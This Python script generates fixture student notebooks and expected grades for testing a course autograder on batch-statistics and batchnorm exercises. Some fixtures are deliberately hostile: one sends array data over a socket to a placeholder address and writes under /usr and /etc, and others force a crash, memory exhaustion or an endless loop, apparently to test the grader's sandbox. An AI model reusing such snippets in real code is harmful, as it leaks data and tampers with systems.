"""Write tests/submissions/ from the lessons' own notebooks: run it again when lessons change.

    python tests/grading/make_submissions.py

Each student is a few replaced cells and what each exercise must then get. A test compares what
this writes with what is committed, and another grades it.
"""

import json
import sys
from collections.abc import Callable
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

from coursekit import exercises
from coursekit.authoring.cells import lesson_name
from coursekit.checking import Exercise

REPO = Path(__file__).parents[2]
FOLDER = REPO / "tests" / "submissions"
MEANS, NORM = "01_mean_and_variance", "04_batchnorm_forward"
FULL = {
    lesson: {
        name: task.points
        for name, task in exercises.load(lesson_name(Path(lesson))).items()
        if isinstance(task, Exercise)
    }
    for lesson in (MEANS, NORM)
}
PASSED, UNSOLVED = "passed", "unsolved"


@dataclass
class Handed:
    """One notebook of a student's.

    Args:
        solved: which exercises have the course's own answer: "all", or their names.
        cells: source by cell id, for cells that the student changed.
        expect: (status, points, diagnosis) of the exercises that are neither solved nor untouched.
        status: how the submission as a whole must end.
        edit: changes the finished notebook.
        text: replaces the file's text.
    """

    lesson: str
    solved: str = ""
    cells: dict[str, str] = field(default_factory=dict)
    expect: dict[str, tuple] = field(default_factory=dict)
    status: str = "graded"
    edit: Callable[[dict], Any] = lambda notebook: None
    text: Callable[[str], str] = lambda text: text


def insert(after: str, source: str, kind: str = "code", tags: tuple[str, ...] = ()):
    """An edit that adds a cell of the student's own after the one with that id."""

    def edit(notebook: dict) -> None:
        at = next(i for i, cell in enumerate(notebook["cells"]) if cell["id"] == after)
        own = {"cell_type": kind, "id": f"own-{after}"[:60], "metadata": {}, "source": source}
        own |= {"execution_count": 3, "outputs": []} if kind == "code" else {}
        own["metadata"] = {"tags": list(tags)} if tags else {}
        notebook["cells"].insert(at + 1, own)

    return edit


def both(*edits):
    """Several edits, one after the other."""

    def edit(notebook: dict) -> None:
        for one in edits:
            one(notebook)

    return edit


def old_format(notebook: dict) -> None:
    """As the notebooks of 2014 were: worksheets, `input` for source, no kernelspec."""
    for cell in notebook["cells"]:
        if cell["cell_type"] == "code":
            cell |= {"input": cell.pop("source"), "language": "python", "collapsed": False}
            cell["prompt_number"] = cell.pop("execution_count")
        cell.pop("id")
    cells = notebook.pop("cells")
    notebook |= {"nbformat": 3, "nbformat_minor": 0, "metadata": {"name": ""}}
    notebook["worksheets"] = [{"cells": cells, "metadata": {}}]


def only_prose(notebook: dict) -> None:
    notebook["cells"] = [c for c in notebook["cells"] if c["cell_type"] == "markdown"]


WRONG_MEANS = {
    "batch_mean": "def batch_mean(x):\n    return x.mean(axis=1)",
    "batch_var": "def batch_var(x, ddof=0):\n    return x.var(axis=0, ddof=1)",
    "moments": (
        "def moments(x, axes, keepdims):\n"
        "    return x.mean(axes, keepdims=keepdims), x.std(axes, keepdims=keepdims)"
    ),
    "welford_update": (
        "def welford_update(count, mean, m2, x):\n    count = count + 1\n    delta = x - mean\n"
        "    return count, mean + delta / count, m2 + delta * delta"
    ),
    "merge_moments": (
        "def merge_moments(nA, meanA, m2A, nB, meanB, m2B):\n    n = nA + nB\n"
        "    return n, (nA * meanA + nB * meanB) / n, m2A + m2B"
    ),
    "stable_var32": "def stable_var32(x):\n    return (x * x).mean(0) - x.mean(0) ** 2",
}
WRONG_NORM = {
    "batch_norm": (
        "def batch_norm(x, gamma, beta, eps=1e-5):\n"
        "    return gamma * (x - x.mean(0)) / (x.std(0) + eps) + beta"
    ),
    "influence_of_sample": (
        "def influence_of_sample(f, x, i):\n    moved = x.copy()\n"
        "    moved[i] += np.arange(1, x.shape[1] + 1)\n    return f(x) - f(moved)"
    ),
    "undo_normalization": (
        "def undo_normalization(x, eps):\n    return np.sqrt(x.var(0)), x.mean(0)"
    ),
}
ENDLESS = """def batch_norm(x, gamma, beta, eps=1e-5):
    n = 0
    while n >= 0:
        n += 1
    return x"""
SOCKET = """import socket

def batch_mean(x):
    with open("/usr/batch_mean_was_here", "w") as file:
        file.write(str(x))
    return x.mean(0)


def batch_var(x, ddof=0):
    with socket.create_connection(("192.0.2.1", 80), timeout=2) as home:
        home.sendall(x.tobytes())
    return x.var(0, ddof=ddof)"""
DISK = """with open("/etc/batch_mean_was_here", "w") as file:
    file.write("hello")"""

STUDENTS: dict[str, list[Handed]] = {
    "ada_solved": [Handed(MEANS, "all"), Handed(NORM, "all")],
    "ben_half": [Handed(MEANS, "batch_mean batch_var moments"), Handed(NORM, "batch_norm")],
    "cem_untouched": [Handed(MEANS), Handed(NORM)],
    "dia_mistaken": [
        Handed(
            MEANS,
            cells=WRONG_MEANS,
            expect={
                "batch_mean": ("failed", 0, "mean_axis_1"),
                "batch_var": ("failed", 0, "always_unbiased"),
                "moments": ("failed", 0, "std_for_second_moment"),
                "welford_update": ("failed", 0, "old_mean_twice"),
                "merge_moments": ("failed", 0, "nothing_between"),
                "stable_var32": ("failed", 0, "one_pass"),
            },
        ),
        Handed(
            NORM,
            "bn_invariances",
            cells=WRONG_NORM,
            expect={
                "batch_norm": ("failed", 0, "eps_outside"),
                "influence_of_sample": ("failed", 0, "before_minus_after"),
                "undo_normalization": ("failed", 0, "eps_not_undone"),
            },
        ),
    ],
    "eli_syntax_error": [
        Handed(
            MEANS,
            "all",
            cells={"batch_var": "def batch_var(x, ddof=0):\n    return x.var(0, ddof=ddof"},
            expect={"batch_var": ("error", 0, None)},
        )
    ],
    "fay_truncated": [
        Handed(MEANS, "all", status="malformed", text=lambda text: text[: len(text) // 2])
    ],
    "gus_endless": [
        Handed(
            NORM,
            "all",
            cells={"batch_norm": ENDLESS},
            expect={"batch_norm": ("timeout", 0, None)},
            status="timeout",
        )
    ],
    "hal_disk_and_socket": [
        Handed(
            MEANS,
            "all",
            cells={"batch_mean": SOCKET, "batch_var": DISK},
            expect={"batch_mean": ("error", 0, None), "batch_var": ("error", 0, None)},
        )
    ],
    "ida_partly": [
        Handed(
            MEANS,
            "all",
            cells={
                "batch_mean": "def batch_mean(x):\n    return x.mean(axis=0, keepdims=True)",
                "merge_moments": "def merge_momentz(nA, meanA, m2A, nB, meanB, m2B):\n    return 0",
                "stable_var32": "def stable_var32(x):\n    return x.var(0, dtype=np.float64), 1",
            },
            expect={
                "batch_mean": ("partial", 0, "slip_keepdims_a67b25c5"),
                "merge_moments": ("missing", 0, None),
                "stable_var32": ("failed", 0, None),
            },
        ),
        Handed(
            NORM,
            "all",
            cells={
                "batch_norm": (
                    "def batch_norm(x, gamma, beta, eps=1e-5):\n    x -= x.mean(0)\n"
                    "    x /= np.sqrt(x.var(0) + eps)\n    return gamma * x + beta"
                )
            },
            expect={"batch_norm": ("partial", 1.5, "x_overwritten")},
        ),
    ],
    "jon_borrowed": [
        Handed(
            NORM,
            "all",
            cells={
                "batch_norm": (
                    "from coursekit import norms\n\ndef batch_norm(x, gamma, beta, eps=1e-5):\n"
                    "    return norms.batch_norm(x, gamma, beta, eps)[0]"
                )
            },
            expect={"batch_norm": ("forbidden", 0, None)},
        )
    ],
    "kim_crashes": [
        Handed(
            NORM,
            "all",
            cells={
                "batch_norm": (
                    "import os\n\ndef batch_norm(x, gamma, beta, eps=1e-5):\n    os._exit(0)\n"
                    "    return x"
                )
            },
            expect={"batch_norm": ("error", 0, None)},
            status="crashed",
        )
    ],
    "lea_hoards": [
        Handed(
            NORM,
            "all",
            cells={
                "batch_norm": (
                    "def batch_norm(x, gamma, beta, eps=1e-5):\n    big = np.ones((10**5, 10**5))\n"
                    "    return big[: len(x)] @ x"
                )
            },
            expect={"batch_norm": ("error", 0, None)},
            status="oom",
        )
    ],
    "max_untidy": [
        Handed(
            MEANS,
            "all",
            edit=both(
                insert("imports", "%matplotlib inline\n!pip install numpy\nimport sys"),
                insert("check-batch_mean", "print('x' * 10_000, file=sys.stderr)\n1 / 0"),
                insert("batch_var", "def batch_var(x, ddof=0):\n    return 'first try'"),
                insert("check-moments", "%%time\ntotal = sum(range(1000))"),
                insert(
                    "check-batch_var", "def batch_var(x, ddof=0):\n    return x.var(0, ddof=ddof)"
                ),
            ),
        )
    ],
    "nia_old_format": [Handed(NORM, "all", edit=old_format)],
    "ole_other_notebook": [
        Handed(
            NORM,
            status="malformed",
            edit=only_prose,
            expect={name: ("missing", 0, None) for name in FULL[NORM]},
        )
    ],
}


def build(handed: Handed) -> tuple[str, dict]:
    """The notebook's text, and what must come of grading it."""
    notebook = json.loads((REPO / "notebooks" / f"{handed.lesson}.ipynb").read_text("utf-8"))
    answers = json.loads((REPO / "solutions" / f"{handed.lesson}.ipynb").read_text("utf-8"))
    answers = {cell["id"]: cell["source"] for cell in answers["cells"]}
    points = FULL[handed.lesson]
    solved = set(points) if handed.solved == "all" else set(handed.solved.split())
    expected = {}
    for cell in notebook["cells"]:
        name = cell["id"]
        if name in handed.cells:
            cell["source"] = handed.cells[name].splitlines(keepends=True)
        elif name in solved:
            cell["source"] = answers[name]
    for name, most in points.items():
        default = (PASSED, most, None) if name in solved else (UNSOLVED, 0, None)
        expected[name] = list(handed.expect.get(name, default))
    handed.edit(notebook)
    text = handed.text(json.dumps(notebook, indent=1, ensure_ascii=False) + "\n")
    if handed.status == "malformed":
        expected = {name: ["missing", 0, None] for name in points}
    score = sum(points for _, points, _ in expected.values())
    return text, {
        "status": handed.status,
        "score": score,
        "max": sum(points.values()),
        "exercises": expected,
    }


def files() -> dict[str, str]:
    """Every file of tests/submissions, by its relative path."""
    made = {}
    for student, notebooks in STUDENTS.items():
        expected = {}
        for handed in notebooks:
            file = f"{handed.lesson}.ipynb"
            made[f"{student}/{file}"], expected[file] = build(handed)
        made[f"{student}/expected.json"] = json.dumps(expected, indent=1) + "\n"
    return made


def main() -> int:
    made = files()
    for path in FOLDER.rglob("*"):
        if path.is_file() and path.relative_to(FOLDER).as_posix() not in made:
            path.unlink()
    for name, text in made.items():
        (FOLDER / name).parent.mkdir(parents=True, exist_ok=True)
        (FOLDER / name).write_text(text, "utf-8")
    print(f"{len(made)} files in {FOLDER.relative_to(REPO)}")
    return 0


if __name__ == "__main__":
    sys.exit(main())
